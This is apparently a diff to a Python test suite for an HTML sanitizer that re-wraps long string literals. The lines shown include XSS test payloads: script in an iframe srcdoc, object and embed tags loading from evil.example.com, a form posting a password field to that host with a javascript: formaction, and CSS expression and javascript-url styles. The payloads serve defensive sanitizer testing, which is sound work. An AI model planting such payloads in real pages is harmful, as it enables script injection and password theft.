@@ -44,7 +44,8 @@ HTML_PAYLOADS = [
     '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
     '<object data="https://evil.example.com/x.swf"></object>',
     '<embed src="https://evil.example.com/x.swf">',
-    '<form action="https://evil.example.com"><input name="password"><button formaction="javascript:alert(1)">go</button></form>',
+    '<form action="https://evil.example.com"><input name="password"><button '
+    'formaction="javascript:alert(1)">go</button></form>',
     '<div style="background-image: url(javascript:alert(1))">x</div>',
     '<div style="width: expression(alert(1))">x</div>',
     '<div style="behavior: url(x.htc); -moz-binding: url(x.xml#x)">x</div>',
@@ -300,7 +301,8 @@ async def test_corpus_through_the_api_and_the_rendered_page(client, make_user):
 def test_safe_html_survives_and_in_page_links_follow_prefixed_ids():
     source = (
         '<h2 id="faq">FAQ</h2><p>See <a href="#faq">the FAQ</a>, <a href="mailto:hi@example.com">mail</a> or '
-        '<a href="/p/acme/pricing">pricing</a>.</p><table><tr><th scope="col">A</th></tr><tr><td colspan="2">1</td></tr></table>'
+        '<a href="/p/acme/pricing">pricing</a>.</p><table><tr><th scope="col">A</th></tr><tr><td '
+        'colspan="2">1</td></tr></table>'
         '<img src="https://img.example.com/a.png" alt="A" width="10" height="abc"><blockquote cite="https://example.com">q</blockquote>'
     )
     cleaned = sanitize_html(source)
